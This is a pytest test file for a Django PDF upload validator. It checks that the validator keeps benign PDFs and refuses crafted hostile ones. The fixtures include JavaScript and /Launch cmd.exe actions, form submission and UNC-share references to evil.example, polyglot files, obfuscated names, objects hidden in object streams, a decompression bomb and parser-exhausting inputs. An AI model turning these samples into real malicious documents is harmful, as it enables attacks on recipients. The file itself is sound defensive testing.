"""A PDF by its content, whatever it is called; nothing else is stored."""

import random
import time
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.translation import override

from partnership.kit.documents import MAX_BYTES, DocumentRefused, clean_pdf

PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\nstartxref\n0\n%%EOF\n"


def body(*objects):
    """A whole file that holds these numbered objects."""
    parts = [b"%d 0 obj\n%s\nendobj\n" % numbered for numbered in enumerate(objects, start=1)]
    return b"%PDF-1.7\n" + b"".join(parts) + b"trailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n"


def stream(data, head=b""):
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (head, len(data), data)


def packed(*objects, more=b"", pack=zlib.compress):
    """An object stream: what newer programs put nearly all of a file into."""
    places = [sum(len(one) + 1 for one in objects[:place]) for place in range(len(objects))]
    table = b" ".join(b"%d %d" % (place + 50, at) for place, at in enumerate(places)) + b" "
    head = b"/Type/ObjStm/N %d/First %d%s" % (len(objects), len(table), more)
    return stream(pack(table + b" ".join(objects)), head + b"/Filter/FlateDecode")


JS = b"<</S/JavaScript/JS(app.alert(1))>>"
NOISE = random.Random(2024).randbytes(9_900_000)
GO_TO = b"<</Type/Catalog/OpenAction 2 0 R>>"
LINK = b"<</Subtype/Link/A<</S/URI/URI(https://a.kz/JS /Launch)>>>>"

HOSTILE = {
    "empty": b"",
    "html": b"<!doctype html><script>alert(1)</script>",
    "picture": b"\x89PNG\r\n\x1a\n" + b"0" * 64,
    "no end": b"%PDF-1.7\n1 0 obj\n",
    "page before": b"<html>" + PDF,
    "page inside": b"%PDF-1.7\n<script>alert(1)</script>\n" + PDF[9:],
    "page behind": PDF[:-6] + b"<html>%%EOF",
    "archive behind": PDF + b"PK\x05\x06" + b"\0" * 18 + b"%%EOF",
    "postscript": b"%!PS-Adobe-3.0\n" + PDF,
    "wrong version": PDF.replace(b"1.7", b"x.y"),
    "script inside": PDF.replace(b"<<>>", b"<</S/JavaScript/JS(app.alert(1))>>"),
    "launches": PDF.replace(b"<<>>", b"<</S /Launch /F(cmd.exe)>>"),
    "carries a file": PDF.replace(b"<<>>", b"<</Type /EmbeddedFile>>"),
    "names files": body(b"<</Names<</EmbeddedFiles 5 0 R>>>>"),
    "a file without its type": body(b"<</Type/Filespec/EF<</F 5 0 R>>>>"),
    "a form that runs": body(b"<</AcroForm<</XFA 7 0 R>>>>"),
    "sends a form": body(b"<</S/SubmitForm/F(https://evil.example)>>"),
    "opens a share": body(b"<</S/GoToR/F(\\\\\\\\evil.example\\\\x)>>"),
    "acts on a page": body(b"<</Type/Page/AA<</O 3 0 R>>>>"),
    "goes away when opened": body(GO_TO, b"<</S/URI/URI(https://evil.example)>>"),
    "goes away by itself": body(b"<</OpenAction<</S/URI/URI(https://evil.example)>>>>"),
    "acts after it showed": body(GO_TO, b"<</S/GoTo/D[3 0 R/Fit]/Next 9 0 R>>"),
    "in figures": body(b"<</S/#4aava#53cript>>"),
    "between objects": PDF.replace(b"endobj\n", b"endobj\n" + JS),
    "packed": body(packed(b"<</Type/Page>>", JS)),
    "packed without its type": body(packed(JS).replace(b"/Type/ObjStm", b"")),
    "packed after a text": body(packed(b"(", JS)),
    "packed in another way": body(packed(JS, more=b"/Filter/ASCIIHexDecode")),
    "packed twice, once as another object says": body(
        packed(JS, pack=lambda raw: zlib.compress(raw.hex().encode())).replace(
            b"/Filter/FlateDecode", b"/Filter[/FlateDecode 2 0 R]"
        ),
        b"/ASCIIHexDecode",
    ),
    "packed as another object says": body(packed(JS, more=b"/DecodeParms 2 0 R"), b"<<>>"),
    "packed and broken": body(packed(JS)[:-40] + b"\nendstream"),
    "a table that lies": body(packed(JS).replace(b"/N 1", b"/N 9")),
    "a bomb": body(packed(b" " * 60_000_000 + JS)),
    "hidden in a picture": body(stream(b"\xff\xd8 7 0 obj" + JS + b"endobj \xff\xd9")),
    "hidden in a text": body(b"<</Title(7 0 obj" + JS + b"endobj)>>"),
    "hidden behind a remark": body(stream(b"7 %\n0 %\n obj" + JS + b"endobj")),
    "closes what is not open": body(b"<</A[>>]" + JS[2:]),
    "half of a dictionary": body(b"<</A(endless"),
    "cut before its end": body(b"<</A 1>>", stream(NOISE))[:5_000_000] + PDF[-20:],
    "locked": PDF.replace(b"startxref", b"trailer<</Encrypt 4 0 R>>\nstartxref"),
}

HONEST = {
    "noise that holds the letters": body(stream(NOISE + b" /JS /JavaScript /Launch (")),
    "a link": body(LINK),
    "packed": body(packed(b"<</Type/Page/Contents 3 0 R>>", LINK)),
    "packed and small": body(packed(b"<</Type/Page>>", b"7")),
    "shows a page first": body(b"<</Type/Catalog/OpenAction[3 0 R/Fit]>>", LINK),
    "goes to a page": body(GO_TO, b"<</S/GoTo/D[3 0 R/Fit]>>", LINK),
    "brackets in texts": body(b"<</Title(a \\) /JS (b) << )/Author<feff0041>>>"),
    "remarks": body(b"% /JS\n<</Type/Page % /Launch\n>>"),
    "a film's trailer": body(stream(b"BT (trailer of a film, 1 0 object) Tj ET")),
}


def upload(content, name="portfolio.pdf"):
    return SimpleUploadedFile(name, content, content_type="application/pdf")


def test_a_pdf_is_stored_byte_for_byte_under_a_name_of_our_own():
    stored = clean_pdf(upload(PDF, "../../Әсем.PDF"))

    assert stored.read() == PDF
    assert len(stored.name) == 36
    assert stored.name.endswith(".pdf")


@pytest.mark.parametrize("case", HOSTILE)
def test_what_is_no_plain_pdf_is_refused(case):
    with pytest.raises(DocumentRefused):
        clean_pdf(upload(HOSTILE[case]))


@pytest.mark.parametrize("case", HONEST)
def test_what_only_looks_like_it_is_kept(case):
    assert clean_pdf(upload(HONEST[case])).read() == HONEST[case]


COSTLY = {
    "brackets": b"1 0 obj " + b"[" * 9_000_000,
    "names": b"1 0 obj [" + b"/a" * 4_500_000,
    "objects": b"1 0 obj 1 " * 900_000,
    "texts": b"1 0 obj (" * 1_000_000,
    "remarks": b"1 0 obj%" * 1_100_000,
    "heads": b"1%1%1%1\n%1%1%1%1%1%1%1\n%%%%%%obj" * 280_000,
    "trailers": b"trailer <<" * 900_000,
    "remarks behind objects": b"1 0 obj<<>>%" * 190_000 + b"1 0 obj(",
    "streams that end at one place": b"1 0 obj<<>>stream\n" * 150_000
    + b"0" * 3_000_000
    + b"endstream 1 0 obj(",
}


@pytest.mark.parametrize("case", COSTLY)
def test_no_file_takes_long_to_refuse(case):
    started = time.process_time()

    with pytest.raises(DocumentRefused):
        clean_pdf(upload(PDF.replace(b"startxref", COSTLY[case] + b"\nstartxref")))

    assert time.process_time() - started < 8


def test_a_refusal_says_what_to_do():
    said = {}
    with override("en"):
        for case in ("packed", "locked", "half of a dictionary"):
            with pytest.raises(DocumentRefused) as caught:
                clean_pdf(upload(HOSTILE[case]))
            said[case] = str(caught.value)

    assert said == {
        "packed": "The PDF holds programs or other files. Save it without them.",
        "locked": "The file is locked by a password. Save it without one.",
        "half of a dictionary": "The file is broken. Save it as PDF once more.",
    }


@pytest.mark.parametrize("name", ["a.html", "a.pdf.exe", "a", "a.svg"])
def test_another_name_is_refused(name):
    with pytest.raises(DocumentRefused):
        clean_pdf(upload(PDF, name))


def test_too_large_is_said_with_the_limit():
    with override("en"), pytest.raises(DocumentRefused, match=r"10\.0\sMB"):
        clean_pdf(upload(b"%PDF-1.7" + b"0" * MAX_BYTES))
